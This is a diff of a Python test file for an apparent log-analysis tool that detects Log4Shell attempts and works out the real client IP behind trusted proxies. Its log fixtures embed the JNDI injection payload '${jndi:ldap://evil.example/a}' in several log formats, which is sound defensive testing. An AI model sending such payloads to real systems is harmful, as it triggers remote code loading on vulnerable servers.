@@ -172,10 +172,11 @@ class Options(Case):
         for name, text in (  # what the attacker wrote goes before what the proxy appended, in one list or as a header of its own
             ("combined.log", '10.0.0.9 - - [10/Dec/2021:14:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "m" "${jndi:ldap://evil.example/a}, 203.0.113.5"\n'),
             ("caddy.log", '{"request":{"remote_ip":"10.0.0.9","headers":{"X-Forwarded-For":["${jndi:ldap://evil.example/a}","203.0.113.5"]}}}\n'),
+            ("many.log", '{"remote_addr":"10.0.0.9","m":"${jndi:ldap://evil.example/a}","x_forwarded_for":[' + "".join('"a%d",' % n for n in range(7000)) + '"203.0.113.5"]}\n'),
             ("iis.log", "#Fields: date time c-ip cs-uri-stem X-Forwarded-For\n2021-12-10 14:00:00 10.0.0.9 / ${jndi:ldap://evil.example/a},+203.0.113.5\n"),
         ):
             with self.subTest(name):
-                self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", self.write(name, text))[0]["source"]["ip"], "203.0.113.5")
+                self.assertEqual(self.events("--trusted-proxy", "10.0.0.0/8", self.write(name, text), status=1)[0]["source"]["ip"], "203.0.113.5")
 
     def test_indicators_callbacks_and_own_scanners(self):
         log = self.write("m.log", "".join(attack(n, h) for n, h in enumerate(("a.one.example", "b.one.example", "192.0.2.77", "X.Two.example", "[2001:db8::7]"))))
